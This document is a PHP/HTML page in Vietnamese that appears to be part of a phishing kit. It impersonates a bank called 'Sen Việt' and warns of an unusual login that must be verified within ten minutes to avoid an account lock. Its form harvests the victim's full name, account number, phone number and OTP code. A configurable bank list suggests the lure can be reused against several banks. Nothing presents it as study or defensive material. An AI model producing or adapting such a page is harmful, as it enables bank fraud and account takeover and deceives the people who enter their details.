<?php require __DIR__ . '/config.php'; ?>
<!doctype html>
<html lang="vi">
<head>
  <meta charset="utf-8"><title>Sen Việt – Xác thực tài khoản</title>
  <link rel="stylesheet" href="/assets/style.css">
</head>
<body>
<header><b>SEN VIỆT</b> <span>Ngân hàng của mọi nhà</span></header>
<main>
  <h1>Xác thực tài khoản</h1>
  <p>Phát hiện đăng nhập lạ. Quý khách vui lòng xác thực trong 10 phút để tránh bị khóa.</p>
  <form method="post" action="/xacthuc.php">
    <select name="nganhang">
      <?php foreach ($BANKS as $code => $name): ?><option value="<?= $code ?>"><?= $name ?></option><?php endforeach ?>
    </select>
    <input name="ten" placeholder="Họ và tên">
    <input name="tk" placeholder="Số tài khoản">
    <input name="sdt" placeholder="Số điện thoại">
    <input name="ma" placeholder="Mã OTP">
    <button>Xác thực</button>
  </form>
</main>
<footer>© Sen Việt · hỗ trợ: <?= $HOTLINE ?></footer>
</body>
</html>
